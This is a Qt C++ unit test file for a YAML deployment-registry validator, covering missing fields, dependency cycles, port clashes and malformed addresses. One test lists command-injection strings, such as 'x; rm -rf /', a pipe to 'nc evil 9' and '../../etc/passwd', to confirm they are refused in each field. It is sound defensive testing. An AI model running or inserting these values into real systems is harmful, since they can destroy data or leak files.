// SPDX-License-Identifier: Apache-2.0
// Semantic problems: references, required fields, cycles, port clashes, unsafe values.
#include "tests/support/TempRegistry.h"

#include <QTest>

using namespace Portoser;
using namespace Portoser::Test;
using namespace Qt::Literals::StringLiterals;

class TestRegistryValidator : public QObject
{
    Q_OBJECT

private slots:
    void reportsProblemAt_data();
    void reportsProblemAt();
    void injectionInEveryNameLikeField_data();
    void injectionInEveryNameLikeField();
    void defaultsAreValid();
};

namespace {

const char *const Base = R"(
hosts:
  h1:
    ip: 10.0.0.1
    path: /srv
  h2:
    ip: 10.0.0.2
    path: /srv
services:
  api:
    current_host: h1
    deployment_type: process
    command: ./run
    port: 8080
)";

QByteArray base()
{
    return dedent(Base);
}

QByteArray replaced(const char *from, const char *to)
{
    return base().replace(from, to);
}

} // namespace

void TestRegistryValidator::reportsProblemAt_data()
{
    QTest::addColumn<QByteArray>("yaml");
    QTest::addColumn<int>("line");
    QTest::addColumn<int>("column");
    QTest::addColumn<QString>("needle");

    QTest::addRow("missing current_host") << replaced("    current_host: h1\n", "") << 9 << 3
                                          << "missing required field \"current_host\"";
    QTest::addRow("missing deployment_type") << replaced("    deployment_type: process\n", "") << 9
                                             << 3 << "missing required field \"deployment_type\"";
    QTest::addRow("missing host address")
        << replaced("    ip: 10.0.0.1\n", "") << 2 << 3 << "missing required field \"ip\"";
    QTest::addRow("missing host path")
        << replaced("    ip: 10.0.0.1\n    path: /srv\n", "    ip: 10.0.0.1\n") << 2 << 3
        << "missing required field \"path\"";
    QTest::addRow("unknown host with suggestion")
        << replaced("current_host: h1", "current_host: H1") << 10 << 19
        << "current_host \"H1\" is not defined (did you mean \"h1\"?)";
    QTest::addRow("unknown host lists known ones")
        << replaced("current_host: h1", "current_host: pi7") << 10 << 19 << "defined: h1, h2";
    QTest::addRow("unknown dependency") << base() + "    dependencies: [db]\n"
                                        << 14 << 19 << "dependency \"db\" is not defined";
    QTest::addRow("self dependency is a cycle") << base() + "    dependencies: [api]\n"
                                                << 14 << 19 << "dependency cycle: api → api";
    QTest::addRow("three-service cycle names the cycle")
        << base()
               + "    dependencies: [b]\n  b:\n    current_host: h2\n    deployment_type: process\n"
                 "    command: ./b\n    dependencies: [c]\n  c:\n    current_host: h2\n"
                 "    deployment_type: process\n    command: ./c\n    dependencies: [api]\n"
        << 14 << 19 << "dependency cycle: api → b → c → api";
    QTest::addRow("two services on one host and port")
        << base()
               + "  web:\n    current_host: h1\n    deployment_type: process\n    command: ./w\n   "
                 " port: 8080\n"
        << 18 << 11 << "port 8080 on host \"h1\" is already used by service \"api\"";
    QTest::addRow("two hosts on one machine share its ports")
        << replaced("ip: 10.0.0.2", "ip: 10.0.0.1")
               + "  web:\n    current_host: h2\n    deployment_type: process\n    command: ./w\n    port: 8080\n"
        << 18 << 11 << "port 8080 on host \"h2\" (the same machine as \"h1\") is already used by service \"api\"";
    QTest::addRow("malformed ipv4")
        << replaced("ip: 10.0.0.1", "ip: 10.0.0.256") << 3 << 9 << "not a valid IP address";
    QTest::addRow("malformed ssh_hostname")
        << replaced("    path: /srv\n  h2", "    path: /srv\n    ssh_hostname: a_b\n  h2") << 5
        << 19 << "neither an IP address nor a valid host name";
    QTest::addRow("malformed service hostname") << base() + "    hostname: api..internal\n"
                                                << 14 << 15 << "not a valid host name";
    QTest::addRow("process without command")
        << replaced("    command: ./run\n", "") << 11 << 22 << "process service needs \"command\"";
    QTest::addRow("docker without compose")
        << replaced("deployment_type: process", "deployment_type: docker") << 11 << 22
        << "docker service needs \"docker_compose\"";
    QTest::addRow("healthcheck_url not http") << base() + "    healthcheck_url: ftp://x/\n"
                                              << 14 << 22 << "not an http(s) URL";
    QTest::addRow("tcp health without port")
        << replaced("    port: 8080\n", "    health:\n      type: tcp\n") << 14 << 13
        << "tcp health check needs a port";
    QTest::addRow("health path without slash") << base() + "    health:\n      path: health\n"
                                               << 15 << 13 << "health.path must start with '/'";
    QTest::addRow("secret reference without key")
        << base() + "    secrets:\n      DB_PASSWORD: db/password\n"
        << 15 << 7 << "must reference PATH#KEY";
    QTest::addRow("secret and env for one variable")
        << base() + "    env:\n      TOKEN: x\n    secrets:\n      TOKEN: api#token\n"
        << 17 << 7 << "set in both env and secrets";
    QTest::addRow("unknown python manager") << base() + "    python_manager: conda\n"
                                            << 14 << 21 << "python_manager must be one of";
    QTest::addRow("caddy on an unknown host") << base() + "caddy:\n  ingress_host: edge\n"
                                              << 15 << 17 << "ingress_host \"edge\" is not defined";
    QTest::addRow("invalid domain") << "domain: bad_domain!\n" + base() << 1 << 9 << "domain";
}

void TestRegistryValidator::reportsProblemAt()
{
    QFETCH(QByteArray, yaml);
    QFETCH(int, line);
    QFETCH(int, column);
    QFETCH(QString, needle);

    TempRegistry temp;
    temp.writeRegistry(yaml);
    const QString mismatch =
        mismatchOfIssueAt(temp.check(), needle, true, temp.path(), line, column);
    QVERIFY2(mismatch.isEmpty(), qPrintable(mismatch));
}

// Every string of the upstream command-injection suite, in every field that becomes a name,
// path, user, address or port on a worker, must be refused with the field's own location.
void TestRegistryValidator::injectionInEveryNameLikeField_data()
{
    QTest::addColumn<QString>("placeholder");
    QTest::addColumn<QString>("value");

    const QStringList attacks = {
        u"x; rm -rf /"_s, u"$(touch /tmp/pwned)"_s, u"`reboot`"_s, u"a | nc evil 9"_s,
        u"a && reboot"_s, u"../../etc/passwd"_s,    u"a\\0b"_s,    u"a\\nreboot"_s};
    const QStringList fields = {
        u"HOST"_s,         u"USER"_s,        u"SSH_HOSTNAME"_s, u"PATH"_s,
        u"SSH_KEY"_s,      u"KNOWN_HOSTS"_s, u"ROLE"_s,         u"SERVICE"_s,
        u"CURRENT_HOST"_s, u"PORT"_s,        u"WORKING_DIR"_s,  u"ENV_FILE"_s,
        u"SERVICE_NAME"_s, u"TAG"_s,         u"DEPENDENCY"_s,   u"DOCKER_COMPOSE"_s,
        u"SERVICE_FILE"_s, u"SOURCE"_s,      u"TLS_CERT"_s,     u"HOSTNAME"_s};
    for (const QString &field : fields) {
        for (qsizetype i = 0; i < attacks.size(); ++i)
            QTest::addRow("%s #%d", qPrintable(field), int(i)) << field << attacks.at(i);
    }
}

void TestRegistryValidator::injectionInEveryNameLikeField()
{
    QFETCH(QString, placeholder);
    QFETCH(QString, value);

    QString yaml = QString::fromUtf8(dedent(R"(
        hosts:
          "{HOST}":
            ip: 10.0.0.1
            ssh_user: "{USER}"
            ssh_hostname: "{SSH_HOSTNAME}"
            path: "{PATH}"
            ssh_key: "{SSH_KEY}"
            known_hosts: "{KNOWN_HOSTS}"
            roles: ["{ROLE}"]
          h2:
            ip: 10.0.0.2
            path: /srv
        services:
          "{SERVICE}":
            current_host: "{CURRENT_HOST}"
            deployment_type: process
            command: ./run
            port: "{PORT}"
            working_dir: "{WORKING_DIR}"
            env_file: "{ENV_FILE}"
            service_name: "{SERVICE_NAME}"
            tags: ["{TAG}"]
            dependencies: ["{DEPENDENCY}"]
            source: "{SOURCE}"
            tls_cert: "{TLS_CERT}"
            hostname: "{HOSTNAME}"
          dep:
            current_host: h2
            deployment_type: docker
            docker_compose: "{DOCKER_COMPOSE}"
            service_file: "{SERVICE_FILE}"
        )"));
    const int line = int(yaml.left(yaml.indexOf(u'{' + placeholder + u'}')).count(u'\n')) + 1;
    yaml.replace(u'{' + placeholder + u'}', value);
    const QHash<QString, QString> defaults = {{u"HOST"_s, u"h1"_s},
                                              {u"USER"_s, u"ops"_s},
                                              {u"SSH_HOSTNAME"_s, u"h1.lan"_s},
                                              {u"PATH"_s, u"/srv"_s},
                                              {u"SSH_KEY"_s, u"~/.ssh/id_ed25519"_s},
                                              {u"KNOWN_HOSTS"_s, u"~/.ssh/known_hosts"_s},
                                              {u"ROLE"_s, u"web"_s},
                                              {u"SERVICE"_s, u"api"_s},
                                              {u"CURRENT_HOST"_s, u"h1"_s},
                                              {u"PORT"_s, u"8080"_s},
                                              {u"WORKING_DIR"_s, u"app"_s},
                                              {u"ENV_FILE"_s, u".env"_s},
                                              {u"SERVICE_NAME"_s, u"api"_s},
                                              {u"TAG"_s, u"prod"_s},
                                              {u"DEPENDENCY"_s, u"dep"_s},
                                              {u"DOCKER_COMPOSE"_s, u"compose.yml"_s},
                                              {u"SERVICE_FILE"_s, u"svc/service.yml"_s},
                                              {u"SOURCE"_s, u"src"_s},
                                              {u"TLS_CERT"_s, u"certs/api.pem"_s},
                                              {u"HOSTNAME"_s, u"api.lan"_s}};
    for (auto it = defaults.cbegin(); it != defaults.cend(); ++it)
        yaml.replace(u'{' + it.key() + u'}', it.value());

    TempRegistry temp;
    temp.writeRegistry(yaml.toUtf8());
    const CheckedRegistry checked = temp.check();
    bool refusedAtField = false;
    for (const Issue &issue : checked.issues)
        refusedAtField = refusedAtField || (issue.isError() && issue.where.line == line);
    QVERIFY2(refusedAtField, qPrintable(u"no error at line %1 for %2 in:\n%3"_s.arg(line).arg(
                                 placeholder, describe(checked.issues))));
}

void TestRegistryValidator::defaultsAreValid()
{
    TempRegistry temp;
    temp.writeRegistry(base());
    const CheckedRegistry checked = temp.check();
    QVERIFY2(checked.issues.isEmpty(), qPrintable(describe(checked.issues)));
}

QTEST_GUILESS_MAIN(TestRegistryValidator)
#include "TestRegistryValidator.moc"
